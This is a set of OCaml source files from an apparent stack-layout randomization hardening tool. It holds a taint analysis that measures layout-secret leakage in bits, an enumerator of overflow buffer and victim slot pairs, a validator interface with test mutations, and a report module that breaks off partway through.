type source = Rand_draw | Pbox_row | Slot_addr of string | Slice_addr
type channel = Direct_value | Address_disclosure | Comparison_oracle

type sink =
  | Output of string
  | Global_store of string
  | Readable_buffer of string
  | Oracle_branch

type leak = {
  func : string;
  source_func : string;
  source : source;
  channel : channel;
  sink : sink;
  bits : float;
}

type func_bits = { fname : string; frame_bits : float; leaked_bits : float }
type t = { leaks : leak list; funcs : func_bits list; total_bits : float }

let source_to_string = function
  | Rand_draw -> "rand-draw"
  | Pbox_row -> "pbox-row"
  | Slot_addr s -> "&" ^ s
  | Slice_addr -> "slice-addr"

let channel_to_string = function
  | Direct_value -> "direct-value"
  | Address_disclosure -> "address-disclosure"
  | Comparison_oracle -> "comparison-oracle"

let sink_to_string = function
  | Output who -> "output(" ^ who ^ ")"
  | Global_store g -> "global(" ^ g ^ ")"
  | Readable_buffer b -> "readable(" ^ b ^ ")"
  | Oracle_branch -> "branch"

let leak_to_string l =
  Printf.sprintf "%s: %s of %s:%s -> %s (%.2f bits)" l.func
    (channel_to_string l.channel)
    l.source_func
    (source_to_string l.source)
    (sink_to_string l.sink) l.bits

(* ------------------------------------------------------------------ *)
(* Taint atoms *)

(* [oracle] marks taint that survived a comparison: one bit, not the
   value. *)
type atom =
  | Asrc of source * string * bool  (** source, source function, oracle *)
  | Aparam of int * bool  (** parameter index, oracle *)

let oracle_ify =
  List.map (function
    | Asrc (s, f, _) -> Asrc (s, f, true)
    | Aparam (i, _) -> Aparam (i, true))

let union a b = List.sort_uniq compare (List.rev_append a b)

(* ------------------------------------------------------------------ *)

type summary = {
  arity : int;
  mutable ret_atoms : atom list;
  mutable out_params : bool array;  (** param value reaches an output *)
  mutable oracle_params : bool array;
      (** param feeds a branch in an output-emitting context *)
  mutable emits_output : bool;
}

type root = Rglob of string | Rslot of Ir.Instr.reg * string * bool | Rother
(** [Rslot (alloca reg, name, const_path)] — [const_path] is true when
    every gep on the way had no index operand (a fixed-offset access). *)

let defs_of (f : Ir.Func.t) =
  let defs = Hashtbl.create 64 in
  Ir.Func.iter_instrs f (fun i ->
      match Ir.Instr.defined_reg i with
      | Some r -> Hashtbl.replace defs r i
      | None -> ());
  defs

let rec resolve_root defs fuel konly (op : Ir.Instr.operand) =
  match op with
  | Ir.Instr.Global g -> Rglob g
  | Ir.Instr.Reg r when fuel > 0 -> (
      match Hashtbl.find_opt defs r with
      | Some (Ir.Instr.Alloca { dst; count = None; name; _ }) ->
          Rslot (dst, name, konly)
      | Some (Ir.Instr.Gep { base; index; _ }) ->
          resolve_root defs (fuel - 1) (konly && index = None) base
      | _ -> Rother)
  | _ -> Rother

let analyze ?hardened ?(readable = []) (prog : Ir.Prog.t) =
  let hardened_prog =
    List.exists
      (fun (f : Ir.Func.t) ->
        Ir.Func.has_attr f Smokestack.Abi.smokestack_attr
        || Ir.Func.has_attr f Smokestack.Abi.smokestack_elided_attr)
      prog.funcs
  in
  let harden_ctx =
    match hardened with
    | Some h -> Some h
    | None ->
        if hardened_prog then None
        else (
          try
            Some
              (Smokestack.Harden.harden ~validate:false
                 Smokestack.Config.default prog)
          with _ -> None)
  in
  let summaries = Hashtbl.create 16 in
  List.iter
    (fun (f : Ir.Func.t) ->
      let n = List.length f.params in
      Hashtbl.replace summaries f.name
        {
          arity = n;
          ret_atoms = [];
          out_params = Array.make (max n 1) false;
          oracle_params = Array.make (max n 1) false;
          emits_output = false;
        })
    prog.funcs;
  let globals : (string, atom list) Hashtbl.t = Hashtbl.create 8 in
  let prog_changed = ref false in
  (* --------- one flow-insensitive pass over a function ---------- *)
  let analyze_func ~record push_leak (f : Ir.Func.t) =
    let sum = Hashtbl.find summaries f.name in
    let fn_hardened = Ir.Func.has_attr f Smokestack.Abi.smokestack_attr in
    let defs = defs_of f in
    let nregs = max 1 f.next_reg in
    let regs = Array.make nregs [] in
    List.iteri
      (fun i (r, _) -> if r < nregs then regs.(r) <- [ Aparam (i, false) ])
      f.params;
    let content : (Ir.Instr.reg, atom list) Hashtbl.t = Hashtbl.create 8 in
    let atoms_of = function
      | Ir.Instr.Reg r when r >= 0 && r < nregs -> regs.(r)
      | _ -> []
    in
    let changed = ref true in
    let add_reg r atoms =
      if r >= 0 && r < nregs && atoms <> [] then begin
        let u = union regs.(r) atoms in
        if List.length u <> List.length regs.(r) then begin
          regs.(r) <- u;
          changed := true
        end
      end
    in
    let add_content key atoms =
      if atoms <> [] then begin
        let cur = Option.value ~default:[] (Hashtbl.find_opt content key) in
        let u = union cur atoms in
        if List.length u <> List.length cur then begin
          Hashtbl.replace content key u;
          changed := true
        end
      end
    in
    let add_global g atoms =
      if atoms <> [] then begin
        let cur = Option.value ~default:[] (Hashtbl.find_opt globals g) in
        let u = union cur atoms in
        if List.length u <> List.length cur then begin
          Hashtbl.replace globals g u;
          changed := true;
          prog_changed := true
        end
      end
    in
    let set_out i =
      if i >= 0 && i < sum.arity && not sum.out_params.(i) then begin
        sum.out_params.(i) <- true;
        prog_changed := true
      end
    in
    let set_oracle i =
      if i >= 0 && i < sum.arity && not sum.oracle_params.(i) then begin
        sum.oracle_params.(i) <- true;
        prog_changed := true
      end
    in
    let set_emits () =
      if not sum.emits_output then begin
        sum.emits_output <- true;
        prog_changed := true
      end
    in
    (* Record a sink fed by [atoms].  Real atoms become leak rows (in
       the recording pass); parameter atoms become summary flows. *)
    let at_sink ?(force_oracle = false) sink atoms =
      List.iter
        (fun a ->
          match a with
          | Asrc (src, sfunc, orc) ->
              if record then
                let channel =
                  if orc || force_oracle then Comparison_oracle
                  else
                    match src with
                    | Slot_addr _ | Slice_addr -> Address_disclosure
                    | Rand_draw | Pbox_row -> Direct_value
                in
                push_leak
                  {
                    func = f.name;
                    source_func = sfunc;
                    source = src;
                    channel;
                    sink;
                    bits = 0.;
                  }
          | Aparam (i, _) -> (
              match sink with
              | Oracle_branch -> set_oracle i
              | Output _ | Global_store _ | Readable_buffer _ ->
                  if force_oracle then set_oracle i else set_out i))
        atoms
    in
    let root = resolve_root defs 12 true in
    let content_of op =
      match root op with
      | Rglob g when g <> Smokestack.Abi.pbox_global ->
          Option.value ~default:[] (Hashtbl.find_opt globals g)
      | Rslot (r, _, _) ->
          Option.value ~default:[] (Hashtbl.find_opt content r)
      | _ -> []
    in
    let transfer (i : Ir.Instr.t) =
      match i with
      | Ir.Instr.Alloca { dst; count = None; name; _ } ->
          (* an unhardened program's slot addresses are the quantities
             randomization will hide; in a hardened program the raw
             allocas (the slab, elided or excluded frames) are fixed *)
          if not hardened_prog then
            add_reg dst [ Asrc (Slot_addr name, f.name, false) ]
      | Ir.Instr.Alloca _ -> ()
      | Ir.Instr.Load { dst; addr; _ } -> (
          (* dereference launders the address channel: the loaded value
             only picks up *content* taint *)
          match root addr with
          | Rglob g when g = Smokestack.Abi.pbox_global ->
              add_reg dst [ Asrc (Pbox_row, f.name, false) ]
          | Rglob g ->
              add_reg dst
                (Option.value ~default:[] (Hashtbl.find_opt globals g))
          | Rslot (r, name, konly) ->
              (* content taint survives a memory round-trip; in a
                 hardened function the key is the slab alloca, merging
                 all slices — conservative but sound *)
              add_reg dst
                (Option.value ~default:[] (Hashtbl.find_opt content r));
              (* fixed-offset reads of the slab head are the decoded
                 dynamic-layout offsets *)
              if fn_hardened && name = "__ss_total" && konly then
                add_reg dst [ Asrc (Pbox_row, f.name, false) ]
          | Rother -> ())
      | Ir.Instr.Store { value; addr; _ } -> (
          let va = atoms_of value in
          if va <> [] then
            match root addr with
            | Rglob g when g <> Smokestack.Abi.pbox_global ->
                add_global g va;
                at_sink (Global_store g) va
            | Rglob _ -> ()
            | Rslot (r, name, _) ->
                add_content r va;
                if List.mem (f.name, name) readable then
                  at_sink (Readable_buffer name) va
            | Rother -> at_sink (Global_store "*") va)
      | Ir.Instr.Gep { dst; base; index; _ } -> (
          let base_atoms = atoms_of base in
          let idx_op = match index with Some (x, _) -> Some x | None -> None in
          let idx_atoms =
            match idx_op with Some x -> atoms_of x | None -> []
          in
          let is_secret_index =
            List.exists
              (function
                | Asrc ((Rand_draw | Pbox_row), _, false) -> true | _ -> false)
              idx_atoms
          in
          match root base with
          | Rslot (_, "__ss_total", _) when fn_hardened && is_secret_index ->
              (* the instrumented slice: slab base plus the drawn
                 offset — an address whose value is the secret *)
              add_reg dst
                (union base_atoms [ Asrc (Slice_addr, f.name, false) ])
          | _ -> add_reg dst (union base_atoms idx_atoms))
      | Ir.Instr.Binop { dst; lhs; rhs; _ } ->
          add_reg dst (union (atoms_of lhs) (atoms_of rhs))
      | Ir.Instr.Icmp { dst; lhs; rhs; _ } ->
          add_reg dst (oracle_ify (union (atoms_of lhs) (atoms_of rhs)))
      | Ir.Instr.Select { dst; cond; if_true; if_false } ->
          add_reg dst
            (union
               (oracle_ify (atoms_of cond))
               (union (atoms_of if_true) (atoms_of if_false)))
      | Ir.Instr.Sext { dst; value; _ } | Ir.Instr.Trunc { dst; value; _ } ->
          add_reg dst (atoms_of value)
      | Ir.Instr.Call { dst; callee; args } -> (
          let arg i = List.nth_opt args i in
          let arg_atoms i = Option.fold ~none:[] ~some:atoms_of (arg i) in
          match Hashtbl.find_opt summaries callee with
          | Some cs ->
              (* defined callee: consult its flow summary *)
              if cs.emits_output then set_emits ();
              List.iteri
                (fun i a ->
                  let aa = atoms_of a in
                  if aa <> [] then begin
                    if i < cs.arity && cs.out_params.(i) then
                      at_sink (Output callee) aa;
                    if i < cs.arity && cs.oracle_params.(i) then
                      at_sink ~force_oracle:true Oracle_branch aa
                  end)
                args;
              Option.iter
                (fun d ->
                  let ret =
                    List.concat_map
                      (function
                        | Asrc _ as a -> [ a ]
                        | Aparam (i, orc) ->
                            let aa = arg_atoms i in
                            if orc then oracle_ify aa else aa)
                      cs.ret_atoms
                  in
                  add_reg d ret)
                dst
          | None -> (
              match callee with
              | "print_int" | "print_char" ->
                  set_emits ();
                  at_sink (Output callee) (arg_atoms 0)
              | "print_str" ->
                  set_emits ();
                  Option.iter
                    (fun a -> at_sink (Output callee) (content_of a))
                    (arg 0)
              | "print_newline" -> set_emits ()
              | "memcpy" | "strncpy" | "strcpy" | "snprintf_cat" ->
                  (* content copy: src buffer content flows into dst *)
                  let src_idx = if callee = "snprintf_cat" then 2 else 1 in
                  Option.iter
                    (fun d ->
                      match root d with
                      | Rslot (r, _, _) ->
                          Option.iter
                            (fun s -> add_content r (content_of s))
                            (arg src_idx)
                      | Rglob g ->
                          Option.iter
                            (fun s -> add_global g (content_of s))
                            (arg src_idx)
                      | _ -> ())
                    (arg 0)
              | "memset" ->
                  Option.iter
                    (fun d ->
                      match root d with
                      | Rslot (r, _, _) -> add_content r (arg_atoms 1)
                      | Rglob g -> add_global g (arg_atoms 1)
                      | _ -> ())
                    (arg 0)
              | "memcmp" ->
                  Option.iter
                    (fun d ->
                      let c =
                        union
                          (Option.fold ~none:[] ~some:content_of (arg 0))
                          (Option.fold ~none:[] ~some:content_of (arg 1))
                      in
                      add_reg d (oracle_ify c))
                    dst
              | "strlen" ->
                  Option.iter
                    (fun d ->
                      add_reg d
                        (Option.fold ~none:[] ~some:content_of (arg 0)))
                    dst
              | "read_input" | "input_byte" | "exit" | "abort" | "free"
              | "malloc" ->
                  ()
              | _ ->
                  (* unknown extern: a tainted argument escapes the
                     analysis — treat as observable *)
                  List.iter
                    (fun a ->
                      let aa = atoms_of a in
                      if aa <> [] then at_sink (Output callee) aa)
                    args))
      | Ir.Instr.Call_ind { dst; callee = _; args } ->
          set_emits ();
          List.iter
            (fun a ->
              let aa = atoms_of a in
              if aa <> [] then at_sink (Output "indirect-call") aa)
            args;
          Option.iter
            (fun d ->
              add_reg d
                (List.fold_left (fun acc a -> union acc (atoms_of a)) [] args))
            dst
      | Ir.Instr.Intrinsic { dst; name; args = _ } ->
          if name = Smokestack.Abi.intr_rand || name = Smokestack.Abi.intr_pad
          then
            Option.iter
              (fun d -> add_reg d [ Asrc (Rand_draw, f.name, false) ])
              dst
    in
    let rounds = ref 0 in
    while !changed && !rounds < 64 do
      changed := false;
      incr rounds;
      List.iter
        (fun (b : Ir.Func.block) -> List.iter transfer b.instrs)
        f.blocks
    done;
    (* terminators: branch oracles and return flows *)
    List.iter
      (fun (b : Ir.Func.block) ->
        match b.term with
        | Ir.Instr.Cond_br { cond; _ } ->
            let ca = atoms_of cond in
            if ca <> [] && sum.emits_output then
              at_sink ~force_oracle:true Oracle_branch ca
        | Ir.Instr.Ret (Some op) ->
            let ra = atoms_of op in
            if ra <> [] then begin
              let u = union sum.ret_atoms ra in
              if List.length u <> List.length sum.ret_atoms then begin
                sum.ret_atoms <- u;
                prog_changed := true
              end
            end
        | Ir.Instr.Ret None | Ir.Instr.Br _ | Ir.Instr.Unreachable -> ())
      f.blocks;
    (* select conditions are oracles too *)
    if sum.emits_output then
      Ir.Func.iter_instrs f (function
        | Ir.Instr.Select { cond; _ } ->
            let ca = atoms_of cond in
            if ca <> [] then at_sink ~force_oracle:true Oracle_branch ca
        | _ -> ())
  in
  (* --------- program fixpoint over summaries + globals ---------- *)
  let no_push _ = () in
  let rounds = ref 0 in
  prog_changed := true;
  while !prog_changed && !rounds < 32 do
    prog_changed := false;
    incr rounds;
    List.iter (analyze_func ~record:false no_push) prog.funcs
  done;
  (* --------- recording pass ---------- *)
  let leaks = ref [] in
  let seen = Hashtbl.create 32 in
  let push_leak l =
    let key = (l.func, l.source_func, l.source, l.channel, l.sink) in
    if not (Hashtbl.mem seen key) then begin
      Hashtbl.replace seen key ();
      leaks := l :: !leaks
    end
  in
  List.iter (analyze_func ~record:true push_leak) prog.funcs;
  let leaks = List.rev !leaks in
  (* --------- quantification ---------- *)
  let log2 x = if x <= 1. then 0. else log x /. log 2. in
  let entropy_cache = Hashtbl.create 8 in
  let entropy_of fname =
    match Hashtbl.find_opt entropy_cache fname with
    | Some e -> e
    | None ->
        let e =
          match harden_ctx with
          | None -> None
          | Some h -> (
              match Smokestack.Pbox.binding h.pbox fname with
              | None -> None
              | Some b -> Some (Smokestack.Entropy_an.of_binding h.pbox b))
        in
        Hashtbl.replace entropy_cache fname e;
        e
  in
  let frame_bits fname =
    match entropy_of fname with
    | Some e -> log2 e.expected_bruteforce_attempts
    | None -> 0.
  in
  let slot_index fname name =
    match Ir.Prog.find_func prog fname with
    | None -> None
    | Some f -> (
        match f.blocks with
        | [] -> None
        | entry :: _ ->
            let names =
              List.filter_map
                (function
                  | Ir.Instr.Alloca { count = None; name = n; _ } -> Some n
                  | _ -> None)
                entry.instrs
            in
            let rec idx i = function
              | [] -> None
              | n :: _ when n = name -> Some i
              | _ :: tl -> idx (i + 1) tl
            in
            idx 0 names)
  in
  let slot_bits fname name =
    match (entropy_of fname, slot_index fname name) with
    | Some e, Some i -> (
        match
          List.find_opt
            (fun (s : Smokestack.Entropy_an.slot_stats) -> s.orig_index = i)
            e.per_slot
        with
        | Some s when s.collision_probability > 0. ->
            (* -log2 Σp², the slot's Rényi collision entropy *)
            Float.max 0. (-.(log s.collision_probability /. log 2.))
        | _ -> 0.)
    | _ -> 0.
  in
  let base_bits l =
    match l.source with
    | Slot_addr n -> slot_bits l.source_func n
    | Slice_addr | Rand_draw | Pbox_row -> frame_bits l.source_func
  in
  let leaks =
    List.map
      (fun l ->
        let b = base_bits l in
        let bits =
          match l.channel with
          | Comparison_oracle -> Float.min 1. b
          | Direct_value | Address_disclosure -> b
        in
        { l with bits })
      leaks
  in
  (* per-source-function totals: max per distinct source, summed, then
     capped at the frame's own entropy *)
  let by_func = ref [] in
  List.iter
    (fun l ->
      if not (List.mem_assoc l.source_func !by_func) then
        by_func := !by_func @ [ (l.source_func, ref []) ])
    leaks;
  List.iter
    (fun l ->
      let cell = List.assoc l.source_func !by_func in
      cell := !cell @ [ l ])
    leaks;
  let funcs =
    List.map
      (fun (fname, cell) ->
        let per_source = ref [] in
        List.iter
          (fun l ->
            match List.assoc_opt l.source !per_source with
            | Some b -> if l.bits > !b then b := l.bits
            | None -> per_source := !per_source @ [ (l.source, ref l.bits) ])
          !cell;
        let sum =
          List.fold_left (fun acc (_, b) -> acc +. !b) 0. !per_source
        in
        let fb = frame_bits fname in
        let leaked = if fb > 0. then Float.min sum fb else sum in
        { fname; frame_bits = fb; leaked_bits = leaked })
      !by_func
  in
  let total_bits = List.fold_left (fun a f -> a +. f.leaked_bits) 0. funcs in
  { leaks; funcs; total_bits }

let leaked_bits_for t fnames =
  let fnames = List.sort_uniq compare fnames in
  List.fold_left
    (fun acc f ->
      match List.find_opt (fun fb -> fb.fname = f) t.funcs with
      | Some fb -> acc +. fb.leaked_bits
      | None -> acc)
    0. fnames
