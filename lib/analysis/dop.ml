type kind = Same_frame | Cross_frame | Wild_write

type pair = {
  pair_id : string;
  kind : kind;
  buf_func : string;
  buf_slot : string;
  victim_func : string;
  victim_slot : string;
  static_distance : int option;
  path : string list;
  victim_roles : Funcan.role list;
  reasons : Funcan.reason list;
}

let kind_to_string = function
  | Same_frame -> "same-frame"
  | Cross_frame -> "cross-frame"
  | Wild_write -> "wild-write"

(* Length-prefixed framing (a field containing ";" or an empty field
   cannot collide with a neighbouring one), MD5 via the stdlib so
   lib/analysis keeps zero store dependencies, truncated to 12 hex
   chars — 48 bits, far beyond any program's pair count. *)
let compute_pair_id ~kind ~buf_func ~buf_slot ~victim_func ~victim_slot
    ~static_distance ~path =
  let b = Buffer.create 64 in
  let field s =
    Buffer.add_string b (string_of_int (String.length s));
    Buffer.add_char b ':';
    Buffer.add_string b s
  in
  field (kind_to_string kind);
  field buf_func;
  field buf_slot;
  field victim_func;
  field victim_slot;
  field
    (match static_distance with Some d -> string_of_int d | None -> "-");
  List.iter field path;
  String.sub (Digest.to_hex (Digest.string (Buffer.contents b))) 0 12

(* [mk] is the one pair constructor: every enumerated pair gets its id
   from the same digest. *)
let mk ~kind ~buf_func ~buf_slot ~victim_func ~victim_slot ~static_distance
    ~path ~victim_roles ~reasons =
  {
    pair_id =
      compute_pair_id ~kind ~buf_func ~buf_slot ~victim_func ~victim_slot
        ~static_distance ~path;
    kind;
    buf_func;
    buf_slot;
    victim_func;
    victim_slot;
    static_distance;
    path;
    victim_roles;
    reasons;
  }

(* functions whose address is taken anywhere in the program: the
   conservative indirect-call target set *)
let address_taken (prog : Ir.Prog.t) =
  let taken = Hashtbl.create 8 in
  let op = function
    | Ir.Instr.Func_ref f ->
        if Ir.Prog.find_func prog f <> None then Hashtbl.replace taken f ()
    | _ -> ()
  in
  List.iter
    (fun (f : Ir.Func.t) ->
      Ir.Func.iter_instrs f (fun i -> List.iter op (Ir.Instr.operands i));
      List.iter
        (fun (b : Ir.Func.block) ->
          List.iter op (Ir.Instr.terminator_operands b.term))
        f.blocks)
    prog.funcs;
  taken

let enumerate (prog : Ir.Prog.t) (ans : Funcan.t list) =
  let an_of = Hashtbl.create 16 in
  List.iter (fun (a : Funcan.t) -> Hashtbl.replace an_of a.fname a) ans;
  let addr_taken = address_taken prog in
  let ind_targets =
    Hashtbl.fold (fun f () acc -> f :: acc) addr_taken [] |> List.sort compare
  in
  let callees_of (a : Funcan.t) =
    if a.has_call_ind then
      List.sort_uniq compare (a.callees @ ind_targets)
    else a.callees
  in
  (* BFS from [src], returning a caller-first path [src; ...; dst] *)
  let path_to src dst =
    let parent = Hashtbl.create 16 in
    let q = Queue.create () in
    Queue.add src q;
    Hashtbl.replace parent src src;
    let found = ref (src = dst) in
    while (not !found) && not (Queue.is_empty q) do
      let u = Queue.pop q in
      match Hashtbl.find_opt an_of u with
      | None -> ()
      | Some a ->
          List.iter
            (fun v ->
              if not (Hashtbl.mem parent v) then begin
                Hashtbl.replace parent v u;
                if v = dst then found := true else Queue.add v q
              end)
            (callees_of a)
    done;
    if not !found then None
    else
      let rec build acc v =
        if v = src then src :: acc else build (v :: acc) (Hashtbl.find parent v)
      in
      Some (build [] dst)
  in
  let victims (a : Funcan.t) =
    List.filter (fun (s : Funcan.slot) -> s.roles <> []) a.slots
  in
  let out = ref [] in
  let seen = Hashtbl.create 64 in
  let push p =
    let key = (p.kind, p.buf_func, p.buf_slot, p.victim_func, p.victim_slot) in
    if not (Hashtbl.mem seen key) then begin
      Hashtbl.replace seen key ();
      out := p :: !out
    end
  in
  List.iter
    (fun (a : Funcan.t) ->
      (* ---- same-frame pairs ---- *)
      List.iter
        (fun (b : Funcan.slot) ->
          if b.overflow <> [] then
            List.iter
              (fun (v : Funcan.slot) ->
                (* overflows write upward: victim above the buffer *)
                if v.reg <> b.reg && v.offset > b.offset then
                  push
                    (mk ~kind:Same_frame ~buf_func:a.fname ~buf_slot:b.name
                       ~victim_func:a.fname ~victim_slot:v.name
                       ~static_distance:(Some (v.offset - b.offset))
                       ~path:[] ~victim_roles:v.roles ~reasons:b.overflow))
              (victims a))
        a.slots)
    ans;
  (* ---- ancestor map: g -> functions reachable from g ---- *)
  let ancestors_of =
    (* for each f, the list of g (g <> f) with f reachable from g *)
    let reach = Hashtbl.create 16 in
    List.iter
      (fun (g : Funcan.t) ->
        let seen = Hashtbl.create 16 in
        let q = Queue.create () in
        Queue.add g.fname q;
        Hashtbl.replace seen g.fname ();
        while not (Queue.is_empty q) do
          let u = Queue.pop q in
          match Hashtbl.find_opt an_of u with
          | None -> ()
          | Some a ->
              List.iter
                (fun v ->
                  if not (Hashtbl.mem seen v) then begin
                    Hashtbl.replace seen v ();
                    Queue.add v q
                  end)
                (callees_of a)
        done;
        Hashtbl.remove seen g.fname;
        Hashtbl.iter
          (fun f () ->
            Hashtbl.replace reach f
              (g.fname :: Option.value ~default:[] (Hashtbl.find_opt reach f)))
          seen)
      ans;
    fun f ->
      List.sort compare (Option.value ~default:[] (Hashtbl.find_opt reach f))
  in
  (* ---- cross-frame pairs ---- *)
  List.iter
    (fun (a : Funcan.t) ->
      let bufs = List.filter (fun (s : Funcan.slot) -> s.overflow <> []) a.slots in
      if bufs <> [] then
        List.iter
          (fun g ->
            match Hashtbl.find_opt an_of g with
            | None -> ()
            | Some ga ->
                let vs = victims ga in
                if vs <> [] then
                  match path_to g a.fname with
                  | None -> ()
                  | Some path ->
                      let rows = Attacks.Layout.chain prog path in
                      List.iter
                        (fun (b : Funcan.slot) ->
                          List.iter
                            (fun (v : Funcan.slot) ->
                              match
                                Attacks.Layout.distance rows
                                  ~from_:(a.fname, b.name) ~to_:(g, v.name)
                              with
                              | Some d when d > 0 ->
                                  push
                                    (mk ~kind:Cross_frame ~buf_func:a.fname
                                       ~buf_slot:b.name ~victim_func:g
                                       ~victim_slot:v.name
                                       ~static_distance:(Some d) ~path
                                       ~victim_roles:v.roles
                                       ~reasons:b.overflow)
                              | _ -> ())
                            vs)
                        bufs)
          (ancestors_of a.fname))
    ans;
  (* ---- wild-write pairs ---- *)
  List.iter
    (fun (a : Funcan.t) ->
      if a.wild_stores > 0 then begin
        let wild_pair (g : string) (v : Funcan.slot) =
          push
            (mk ~kind:Wild_write ~buf_func:a.fname ~buf_slot:"*"
               ~victim_func:g ~victim_slot:v.name ~static_distance:None
               ~path:[] ~victim_roles:v.roles ~reasons:[])
        in
        List.iter (wild_pair a.fname) (victims a);
        List.iter
          (fun g ->
            match Hashtbl.find_opt an_of g with
            | None -> ()
            | Some ga -> List.iter (wild_pair g) (victims ga))
          (ancestors_of a.fname)
      end)
    ans;
  List.rev !out
