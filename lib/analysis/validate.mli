(** Static validation of hardened programs (DESIGN.md §12).

    [check] proves, per function of a {!Smokestack.Harden.t}, the four
    Smokestack security post-conditions over the instrumented IR and
    the built P-BOX — without running anything:

    - {b frame integrity}: exactly one fixed-size alloca remains (the
      [__ss_total] slab, sized to the P-BOX worst case) and every
      original slot is reached only through gep slices of it at
      P-BOX-loaded offsets;
    - {b P-BOX soundness}: every materialized row places each canonical
      column aligned, within the slab, with no duplicate or overlapping
      placements (dynamic bindings are checked on a seeded sample of
      decoded layouts);
    - {b index hygiene}: a taint walk from the {!Smokestack.Abi.intr_rand}
      result — the drawn index, row pointer, and loaded offsets never
      flow into a stored value or address, call argument, indirect-call
      target, or return value (slot {e slices} deliberately launder the
      taint: their addresses are the product, not the secret);
    - {b FID pairing}: the prologue's [fid XOR key] store dominates
      every return, and every return block carries a well-formed
      [ss.fid_assert] (checked on the {!Ir.Cfg} dominator tree).

    Under selective hardening it additionally re-derives, from the
    {e original} program, the proof obligations justifying each
    elision: no VLA, every slot overflow-safe, no DOP pair membership,
    and the elision itself draw-preserving and layout-preserving.

    {!install} registers the validator as {!Smokestack.Harden.harden}'s
    post-condition hook and {!elidable} as its elision oracle. *)

type rule =
  | Frame_integrity
  | Pbox_soundness
  | Index_hygiene
  | Fid_pairing
  | Elision
  | Layout_leak
      (** advisory ({!check_leaks} only): a hardened function's
          observable outputs are taint-reachable from a layout secret *)

val rule_to_string : rule -> string

type violation = {
  rule : rule;
  func : string;  (** offending function (or global) *)
  row : int option;  (** offending P-BOX row, when applicable *)
  detail : string;
}

val violation_to_string : violation -> string

val check : ?original:Ir.Prog.t -> Smokestack.Harden.t -> violation list
(** Deterministic order: P-BOX data first, then functions in program
    order, then elision obligations.  Without [original], elisions
    cannot be certified and a program-level {!Elision} violation is
    reported whenever any exist. *)

val result : ?original:Ir.Prog.t -> Smokestack.Harden.t -> (unit, string) result
(** [check] rendered as the pass pipeline's post-condition: [Error]
    carries one {!violation_to_string} line per violation. *)

val check_leaks : Smokestack.Harden.t -> violation list
(** Advisory {!Layout_leak} lint over the hardened IR: one violation
    per {!Leakan} flow from a layout secret to an observable sink.
    Deliberately {e not} part of {!check} — a leaking program is still
    a well-formed hardening; surfaced by [smokestackc lint --leaks]. *)

val elidable : Ir.Prog.t -> string list
(** The selective-hardening oracle: functions with static slots, no
    VLA, every slot provably overflow-safe and non-escaping
    ({!Funcan}), appearing in no enumerated DOP pair ({!Dop}). *)

val install : unit -> unit
(** Registers {!result} and {!elidable} with {!Smokestack.Harden}. *)

(** {2 Seeded IR mutations}

    Each mutation derives a deliberately broken hardening from a valid
    one — the validator must catch every class ([smokestackc lint
    --mutate]). *)

type mutation =
  | Raw_alloca  (** fixed-size alloca appended outside the slab *)
  | Overlap_row  (** one placement moved onto a neighbour *)
  | Dup_row_entry  (** two columns share one offset *)
  | Swap_row_entries  (** heterogeneous columns exchanged *)
  | Spill_index  (** masked index stored into a stack slot *)
  | Drop_fid_assert  (** epilogue check removed from a return block *)

val all_mutations : mutation list
val mutation_to_string : mutation -> string
val mutation_of_string : string -> mutation option

val expected_rule : mutation -> rule
(** The rule whose violation the mutation must trigger. *)

val mutate :
  seed:int64 ->
  mutation ->
  Smokestack.Harden.t ->
  (Smokestack.Harden.t * string) option
(** Applies one seeded mutation to (a copy of) the hardening, returning
    the mutant and a description of what was broken, or [None] when the
    program offers no applicable site.  P-BOX mutations patch the blob
    and the embedded rodata global consistently, modelling a generator
    bug rather than a rodata tamper. *)

(** {2 JSON} *)

val violation_to_json : violation -> string

val report_json : name:string -> violation list -> string
(** [{"program": ..., "clean": bool, "violations": [...]}]. *)
