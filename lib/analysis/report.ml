module J = Sutil.Json

type scored_pair = {
  pair : Dop.pair;
  attempts : (string * float) list;
  degraded : (string * float) list;
      (** expected attempts after conditioning on the statically-found
          leaks of the pair's two frames; [= attempts] rows are elided
          and the list is [[]] when the pair's frames leak nothing *)
}

type func_summary = {
  fname : string;
  n_slots : int;
  n_overflow : int;
  n_victims : int;
  wild_stores : int;
  frame_bytes : int;
  validated : bool;
      (** default-config hardening of this program passes the static
          validator with no violation attributed to this function *)
  leaked_bits : float;
      (** collision-entropy bits this function's layout secrets leak to
          observable sinks ({!Leakan}) *)
}

type t = {
  name : string;
  funcs : func_summary list;
  analyses : Funcan.t list;
  pairs : scored_pair list;
  defense_names : string list;
  leakage : Leakan.t;
}

(* Conditioning the attempt model on disclosure (DESIGN.md §17): for
   the per-invocation defense the attacker re-learns the leaked bits
   every run, so expected attempts divide by [2^bits] — exactly the
   conditional collision estimate [Σp_b² / Σp_joint²].  For per-build
   defenses the layout is fixed, so any value/address disclosure
   reveals it once and for all (one attempt); an oracle alone still
   only divides. *)
let degrade (leakage : Leakan.t) (p : Dop.pair) attempts =
  let relevant = [ p.buf_func; p.victim_func ] in
  let rel_leaks =
    List.filter
      (fun (l : Leakan.leak) -> List.mem l.source_func relevant)
      leakage.leaks
  in
  if rel_leaks = [] then []
  else
    let bits = Leakan.leaked_bits_for leakage relevant in
    let full_disclosure =
      List.exists
        (fun (l : Leakan.leak) -> l.channel <> Leakan.Comparison_oracle)
        rel_leaks
    in
    List.map
      (fun (d, a) ->
        let a' =
          if d = "none" then a
          else if d = "smokestack" then
            Float.max 1. (a /. Float.pow 2. bits)
          else if full_disclosure then Float.min a 1.
          else Float.max 1. (a /. Float.pow 2. bits)
        in
        (d, a'))
      attempts

let analyze_prog ?(name = "program") ?(score = true) prog =
  let analyses = Funcan.analyze prog in
  let raw_pairs = Dop.enumerate prog analyses in
  (* Harden once under the default config: the same artifact feeds the
     per-function validation verdict and the leak quantification. *)
  let hardened =
    match
      Smokestack.Harden.harden ~validate:false Smokestack.Config.default prog
    with
    | h -> Some h
    | exception _ -> None
  in
  let readable =
    List.sort_uniq compare
      (List.map (fun (p : Dop.pair) -> (p.buf_func, p.buf_slot)) raw_pairs)
  in
  let leakage = Leakan.analyze ?hardened ~readable prog in
  let pairs =
    if score && raw_pairs <> [] then
      let ctx = Score.make_ctx prog analyses in
      List.map
        (fun p ->
          let attempts = Score.attempts ctx p in
          { pair = p; attempts; degraded = degrade leakage p attempts })
        raw_pairs
    else List.map (fun p -> { pair = p; attempts = []; degraded = [] }) raw_pairs
  in
  (* Per-function validation verdict: ask the static validator which
     functions (if any) violate a post-condition.  A program that
     cannot be hardened at all (e.g. it already is) validates
     nothing. *)
  let invalidated =
    match hardened with
    | Some h ->
